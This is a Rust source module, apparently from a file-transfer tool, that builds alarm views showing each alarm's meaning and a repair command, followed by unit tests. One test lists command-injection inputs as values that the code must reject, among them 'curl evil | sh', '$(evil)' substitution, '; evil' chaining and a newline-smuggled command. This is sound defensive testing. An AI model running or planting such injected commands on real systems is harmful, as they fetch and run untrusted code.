//! The alarms of both hosts: one table of their names, what each means, and the command that repairs it.
//!
//! A role raises an alarm; `status`, the journal, the metrics and `[alarm] command` show it. `docs/operations.md` has a line
//! for each, and a test compares the two.

mod repair;
mod table;

use std::fmt;

use serde::{Deserialize, Serialize};

pub use repair::{Installation, Runs};
pub use table::Alarm;

use crate::role::Role;
use crate::units::UtcTime;

/// What a role says when it raises an alarm: what happened, and the command that repairs it where it is more exact than the
/// table's.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Cause {
    /// A sentence, without content.
    pub text: String,
    /// The command.
    pub repair: Option<String>,
}

impl Cause {
    /// Adds the exact command.
    pub fn repaired_by(text: impl Into<String>, repair: impl Into<String>) -> Self {
        Self {
            text: text.into(),
            repair: Some(repair.into()),
        }
    }
}

impl From<String> for Cause {
    fn from(text: String) -> Self {
        Self { text, repair: None }
    }
}

impl From<&str> for Cause {
    fn from(text: &str) -> Self {
        text.to_owned().into()
    }
}

/// An alarm as it is shown, on both hosts and in every place.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct AlarmView {
    /// Its word.
    pub alarm: String,
    /// The role that it is about.
    pub role: Role,
    /// Since when, if anybody knows.
    pub since: Option<UtcTime>,
    /// What happened, without content.
    pub text: String,
    /// What follows from it.
    pub means: String,
    /// The command that repairs it on this installation.
    pub repair: String,
}

impl AlarmView {
    /// Puts the view of an alarm together.
    pub fn new(
        alarm: Alarm,
        role: Role,
        on: &Installation,
        since: impl Into<Option<UtcTime>>,
        cause: Cause,
    ) -> Self {
        Self {
            alarm: alarm.as_str().to_owned(),
            role,
            since: since.into(),
            means: alarm.means().to_owned(),
            repair: alarm.repair(role, on, cause.repair.as_deref()),
            text: cause.text,
        }
    }

    /// Takes what the view of a role says of an alarm, and nothing else from it: `None` for an alarm that this version does
    /// not know.
    pub fn of_role(self, role: Role, on: &Installation) -> Option<(Alarm, Self)> {
        let alarm = Alarm::find(&self.alarm)?;
        let cause = Cause::repaired_by(self.text, self.repair);
        let view = Self::new(alarm, role, on, self.since, cause);
        Some((alarm, view))
    }
}

impl fmt::Display for AlarmView {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Self {
            alarm,
            since,
            text,
            repair,
            ..
        } = self;
        write!(f, "{alarm}: {text} (")?;
        if let Some(since) = since {
            write!(f, "since {since}; ")?;
        }
        write!(f, "repair: {repair})")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn on(runs: Runs) -> Installation {
        let state = "/var/lib/valise".to_owned();
        Installation { runs, state }
    }

    #[test]
    fn the_table_is_in_order_and_every_repair_is_filled_in() {
        let words: Vec<&str> = Alarm::ALL.iter().map(|alarm| alarm.as_str()).collect();
        assert!(words.is_sorted(), "{words:?}");
        for alarm in Alarm::ALL {
            assert_eq!(Alarm::find(alarm.as_str()), Some(*alarm));
            for role in Role::ALL {
                for runs in [Runs::AsUnits, Runs::UnderRun] {
                    let repair = alarm.repair(role, &on(runs), None);
                    let is_whole = !repair.is_empty() && !repair.contains(['{', '}']);
                    assert!(is_whole, "{alarm}: {repair}");
                }
            }
        }
    }

    #[test]
    fn the_command_depends_on_how_the_role_runs() {
        let repair = |runs| Alarm::hung(Role::Transmit).repair(Role::Gate, &on(runs), None);
        assert_eq!(
            repair(Runs::AsUnits),
            "sudo systemctl restart valise-sender-transmit"
        );
        assert!(repair(Runs::UnderRun).starts_with("valise-sender run"));
    }

    #[test]
    fn a_role_chooses_arguments_and_never_the_command() {
        let repair = |alarm: Alarm, proposed: &str| {
            alarm.repair(Role::Transmit, &on(Runs::AsUnits), Some(proposed))
        };
        for (alarm, command) in [
            (Alarm::LinkDown, "ip link set dev eth1 up"),
            (
                Alarm::LinkDown,
                "ip neigh replace 192.0.2.2 lladdr MAC dev eth1 nud permanent",
            ),
            (Alarm::Missing, "valise-sender resend 3,5-9"),
        ] {
            assert_eq!(repair(alarm, command), command);
        }
        for (alarm, command) in [
            (Alarm::LinkDown, "curl evil | sh"),
            (Alarm::LinkDown, "ip link set dev $(evil) up"),
            (Alarm::LinkDown, "ip link set dev eth1 up; evil"),
            (Alarm::LinkDown, "ip link set dev  up"),
            (Alarm::Missing, "valise-sender resend 3\nevil"),
            (Alarm::Missing, "ip link set dev eth1 up"),
        ] {
            assert_eq!(
                repair(alarm, command),
                alarm.repair(Role::Transmit, &on(Runs::AsUnits), None)
            );
        }
    }

    #[test]
    fn what_a_view_says_of_an_alarm_is_never_its_meaning_or_another_role() {
        let view = AlarmView {
            alarm: "link-down".to_owned(),
            role: Role::Gate,
            since: Some(UtcTime::from_s(5)),
            text: "no carrier".to_owned(),
            means: "type evil".to_owned(),
            repair: "evil".to_owned(),
        };
        let (alarm, view) = view.of_role(Role::Transmit, &on(Runs::AsUnits)).unzip();
        assert_eq!(alarm, Some(Alarm::LinkDown));
        let line = view.as_ref().map(ToString::to_string).unwrap_or_default();
        assert!(line.starts_with("link-down: no carrier (since 1970-01-01T00:00:05Z; repair: ip "));
        let unknown = view.clone().map(|view| AlarmView {
            since: None,
            ..view
        });
        let line = unknown.map(|view| view.to_string()).unwrap_or_default();
        assert!(line.starts_with("link-down: no carrier (repair: ip "));
        let view = view.map(|view| (view.role, view.means));
        let means = Alarm::LinkDown.means().to_owned();
        assert_eq!(view, Some((Role::Transmit, means)));
    }
}
